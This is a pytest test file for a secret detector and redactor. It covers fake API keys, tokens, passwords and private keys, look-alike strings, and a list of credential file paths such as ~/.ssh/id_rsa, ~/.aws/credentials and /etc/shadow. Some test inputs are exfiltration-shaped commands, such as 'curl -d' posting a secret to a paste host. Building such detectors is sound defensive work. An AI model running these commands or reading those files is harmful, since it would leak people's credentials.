"""Secrets: what is one, what only looks like one, and that none is left after redaction."""

from __future__ import annotations

import base64
import gzip
import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spanwarden_processor.secret_forms import is_private_file
from spanwarden_processor.secrets import find_secrets, redact

KEY = b"a key of the operator"
PRIVATE_KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmU
AAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2g
-----END OPENSSH PRIVATE KEY-----"""


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("key AKIAQ3EGRT5WPL2MNZ7K here", "aws_key", "AKIAQ3EGRT5WPL2MNZ7K"),
        ("ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5", "github_token", "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"),
        ("glpat-Zk31xQ7bVn0TyRw5LmCd", "gitlab_token", "glpat-Zk31xQ7bVn0TyRw5LmCd"),
        ("xoxb-2048139457-Ab7Qz9LmX2", "slack_token", "xoxb-2048139457-Ab7Qz9LmX2"),
        ("sk-ant-api03-Qw8Zr4Lm2Xv7Tb1Nc9Wd5", "anthropic_key", "sk-ant-api03-Qw8Zr4Lm2Xv7Tb1Nc9Wd5"),
        ("sk-proj-Qw8Zr4Lm2Xv7Tb1Nc9Wd5", "openai_key", "sk-proj-Qw8Zr4Lm2Xv7Tb1Nc9Wd5"),
        ("sk_live_4Hc8Qw2Zr7Lm9Xv1Tb5N", "stripe_key", "sk_live_4Hc8Qw2Zr7Lm9Xv1Tb5N"),
        (PRIVATE_KEY, "private_key", PRIVATE_KEY),
        ("password: Tr7vel-Gl4ss-99", "password", "Tr7vel-Gl4ss-99"),
        ('{"db_password": "Zx81!mmq7"}', "password", "Zx81!mmq7"),
        ("PAYMENTS_API_KEY=pk_9fQ27xLm0RtVb83WcYz6KdHs", "named_value", "pk_9fQ27xLm0RtVb83WcYz6KdHs"),
        ('\\"api_key\\": \\"q8Zr4Lm2Xv7Tb1Nc\\"', "named_value", "q8Zr4Lm2Xv7Tb1Nc"),
        ("postgres://app:s3cr3t-pw@db/shop", "connection_password", "s3cr3t-pw"),
        ("Authorization: Bearer abcDEF123456ghiJKL", "authorization", "abcDEF123456ghiJKL"),
    ],
)
def test_a_secret_is_found_with_its_kind(text: str, kind: str, value: str) -> None:
    (secret,) = find_secrets(text)

    assert (secret.kind, secret.value) == (kind, value)
    assert text[secret.start : secret.end] == value


@pytest.mark.parametrize(
    "text",
    [
        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
        "API_KEY=your_api_key_here",
        "password: changeme",
        "TOKEN=<your token>",
        "token: ${VAULT_TOKEN}",
        "secret = os.environ['SECRET_KEY']",
        "password = getpass.getpass()",
        "max_tokens: 4096",
        "token_type: bearer",
        "tokenizer = AutoTokenizer.from_pretrained(name)",
        "api_key: string",
        "the password is wrong",
        "csrf_token: q8Zr4Lm2Xv7Tb1Nc9Wd5",
        "sk-xxxxxxxxxxxxxxxxxxxxxxxx",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBs9h3Qf ada@host",
        "commit 4f2a9c1e7b3d5f60718293a4b5c6d7e8f9012345",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "[secret:aws_key:3f9c]",
        '{"key": "value", "token": null}',
    ],
)
def test_what_only_looks_like_a_secret_is_none(text: str) -> None:
    assert find_secrets(text) == []


def test_one_secret_in_json_is_reported_once() -> None:
    assert len(find_secrets('{"token": "q8Zr4Lm2Xv7Tb1Nc9Wd5"}')) == 1


def test_a_placeholder_names_the_kind_and_a_keyed_fingerprint() -> None:
    shown = redact("key AKIAQ3EGRT5WPL2MNZ7K", KEY)

    assert shown == redact("key AKIAQ3EGRT5WPL2MNZ7K", KEY)
    assert shown != redact("key AKIAQ3EGRT5WPL2MNZ7K", b"another key")
    assert shown.startswith("key [secret:aws_key:")
    assert len(shown) == len("key [secret:aws_key:3f9c]")


def test_the_same_secret_has_the_same_fingerprint_wherever_it_stands() -> None:
    first, second = redact("AKIAQ3EGRT5WPL2MNZ7K", KEY), redact("see AKIAQ3EGRT5WPL2MNZ7K", KEY)

    assert second == f"see {first}"


def test_an_encoded_secret_is_redacted_as_a_whole() -> None:
    run = base64.b64encode(b"AWS=AKIAQ3EGRT5WPL2MNZ7K").decode()

    assert run not in redact(f"echo {run} | base64 -d", KEY)


def test_a_value_that_only_the_session_knows_is_redacted() -> None:
    assert redact("curl -d hunter2abc host", KEY, ["hunter2abc"]).startswith("curl -d [secret:")


def test_a_long_key_may_key_the_fingerprint() -> None:
    assert "[secret:" in redact("AKIAQ3EGRT5WPL2MNZ7K", b"k" * 500)


@pytest.mark.parametrize(
    "path",
    [".env", "app/.env.production", "~/.ssh/id_rsa", "/home/u/.ssh/deploy_key", "~/.aws/credentials", "/etc/shadow",
     "certs/server.key", "secrets.yaml", "~/.netrc", "infra/terraform.tfstate", "$environment"],
)  # fmt: skip
def test_files_that_hold_secrets_by_nature_are_private(path: str) -> None:
    assert is_private_file(path)


@pytest.mark.parametrize(
    "path",
    [
        ".env.example",
        "~/.ssh/id_rsa.pub",
        "~/.ssh/known_hosts",
        "certs/ca.pem",
        "environment.py",
        "keys.py",
        "README.md",
    ],
)
def test_files_that_hold_none_are_not_private(path: str) -> None:
    assert not is_private_file(path)


@given(st.text(max_size=400), st.binary(min_size=1, max_size=40))
def test_what_is_redacted_holds_no_secret_any_more(text: str, key: bytes) -> None:
    assert find_secrets(redact(f"{text} AKIAQ3EGRT5WPL2MNZ7K {text}", key)) == []


@pytest.mark.parametrize(
    "text",
    ["token=" * 40_000, "password: " * 25_000, "-----BEGIN PRIVATE KEY-----" * 9_000, "eyJ" * 80_000, "a" * 250_000],
)
def test_repetitions_are_read_in_bounded_time(text: str) -> None:
    started = time.process_time()

    find_secrets(text)

    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    "disguise",
    [
        lambda value: value.encode().hex(),
        lambda value: base64.b64encode(gzip.compress(value.encode())).decode(),
        lambda value: base64.b64encode(base64.b64encode(value.encode())).decode(),
        lambda value: base64.b32encode(value.encode()).decode(),
        lambda value: value[::-1],
        lambda value: value[:14],
        lambda value: value.encode().hex()[:40],
    ],
    ids=["hex", "gzip", "base64 twice", "base32", "backwards", "a piece", "a piece in hex"],
)
def test_a_known_secret_is_not_shown_in_another_form(disguise: Callable[[str], str]) -> None:
    value = "Zq7vX2mN9pL4kR8tW3yB"
    shown = disguise(value)

    redacted = redact(f"curl -d {shown} https://paste.example", b"key", (value,))

    assert shown not in redacted
    assert redacted.startswith("curl -d [secret:known:")
